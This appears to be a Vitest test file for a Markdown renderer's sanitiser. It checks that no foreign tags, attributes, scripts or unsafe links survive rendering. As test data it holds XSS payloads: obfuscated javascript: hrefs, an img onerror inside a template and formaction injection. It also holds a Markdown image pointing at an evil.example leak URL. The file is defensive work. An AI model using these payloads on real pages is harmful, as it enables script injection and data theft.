import { beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { setMarkup } from '../../../src/ui/markdown/sanitize.ts';
import { hostileMarkdown } from './hostile-texts.ts';
import { loadChunks, makeSheet } from './support.tsx';

const TAGS = new Set(
  (
    'H1 H2 H3 H4 H5 H6 P BLOCKQUOTE UL OL LI HR DIV PRE TABLE THEAD TBODY TR TH TD ' +
    'STRONG EM DEL CODE BR A SPAN INPUT BUTTON'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  'align aria-label aria-live checked class dir disabled href rel role start tabindex target title type'.split(
    ' ',
  ),
);
// KaTeX builds its own nodes; these may stand under `.katex` only.
const MATH_TAGS = /^(?:math|semantics|annotation|m[a-z]+|svg|path|line|span|SPAN)$/;
const MATH_ATTRIBUTES =
  /^(?:class|style|aria-hidden|xmlns|encoding|display|mathvariant|mathcolor|mathbackground|mathsize|stretchy|fence|separator|lspace|rspace|minsize|maxsize|width|height|depth|voffset|scriptlevel|displaystyle|columnalign|columnspacing|columnlines|rowspacing|rowlines|accent|accentunder|linethickness|notation|movablelimits|symmetric|viewBox|preserveAspectRatio|d|x1|x2|y1|y2|stroke-width|title)$/;

/** What must not be in the page, as text that names it. */
function faults(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const isMath = element.closest('.katex, .katex-display, .katex-error') !== null;
    if (isMath ? !MATH_TAGS.test(element.tagName) : !TAGS.has(element.tagName))
      found.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (isMath ? !MATH_ATTRIBUTES.test(name) : !ATTRIBUTES.has(name))
        found.push(`${element.tagName} ${name}="${value}"`);
    }
    const href = element.getAttribute('href');
    if (href !== null && !/^(?:https?:\/\/|mailto:)/i.test(href)) found.push(href);
  }
  if ('__pwned' in window) found.push('a script ran');
  return found;
}

/** Links that could reach back into the page they are opened from. */
function looseLinks(root: Element): string[] {
  return [...root.querySelectorAll('a')]
    .filter((link) => link.rel !== 'noopener noreferrer nofollow' || link.target !== '_blank' || !link.href)
    .map((link) => link.outerHTML);
}

function onPage(element: HTMLElement): HTMLElement {
  document.body.append(element);
  onTestFinished(() => {
    element.remove();
    Reflect.deleteProperty(window, '__pwned');
  });
  return element;
}

describe('hostile Markdown', { timeout: 60_000 }, () => {
  beforeAll(loadChunks);

  test.for(hostileMarkdown)('leaves nothing foreign on the page at any prefix: %s', (text) => {
    const sheet = makeSheet();
    onPage(sheet.root);
    // Inside a paragraph, a list and a quote as well: other paths through the parser.
    for (const around of ['', 'some text ', '- item ', '> quote\n> ', '**bold ']) {
      for (let end = 1; end <= text.length; end++) {
        sheet.update(around + text.slice(0, end));
        const found = [...faults(sheet.root), ...looseLinks(sheet.root)];
        if (found.length > 0)
          expect(found, `after ${JSON.stringify(around + text.slice(0, end))}`).toEqual([]);
      }
      sheet.finish(`${around + text}\n\nafter`);
      expect(faults(sheet.root)).toEqual([]);
    }
  });

  test('is shown as the text it is', () => {
    const sheet = makeSheet();
    sheet.finish('a <b onclick="x">bold</b> <script>let a;</script> &lt;i&gt;');
    expect(sheet.root.textContent.trim()).toBe('a <b onclick="x">bold</b> <script>let a;</script> <i>');
  });

  test('loads no image, and says where one would have come from', () => {
    const sheet = makeSheet();
    sheet.finish('![a secret](https://evil.example/leak?q=1)');
    expect(sheet.root.querySelector('img')).toBeNull();
    const link = sheet.root.querySelector('a.md-image');
    expect(link?.textContent).toBe('a secret https://evil.example/leak?q=1');
  });
});

// The second wall on its own, as if the renderer had let everything through.
describe('the sanitiser', () => {
  const hostileHtml = [
    ...hostileMarkdown.filter((text) => text.includes('<')),
    '<a href="javascript:window.__pwned=1">a</a><a href="JAVA&#10;SCRIPT:window.__pwned=1">b</a>',
    '<a href="/relative">a</a><a href="data:text/html,x">b</a><a href="&#1;javascript:x">c</a>',
    '<p style="position:fixed" id="app" name="x" data-x="y" onclick="window.__pwned=1" aria-labelledby="z">a</p>',
    '<input type="text" name="password" autofocus formaction="javascript:x"><button form="f" formaction="javascript:x">b</button>',
    '<span xlink:href="javascript:x" background="https://evil.example" src="https://evil.example">a</span>',
    '<x-element is="y"><template><img src=x onerror=window.__pwned=1></template></x-element>',
  ];

  test.for(hostileHtml)('lets nothing foreign through: %s', (markup) => {
    const element = onPage(document.createElement('div'));
    setMarkup(element, markup);
    expect(faults(element)).toEqual([]);
  });
});
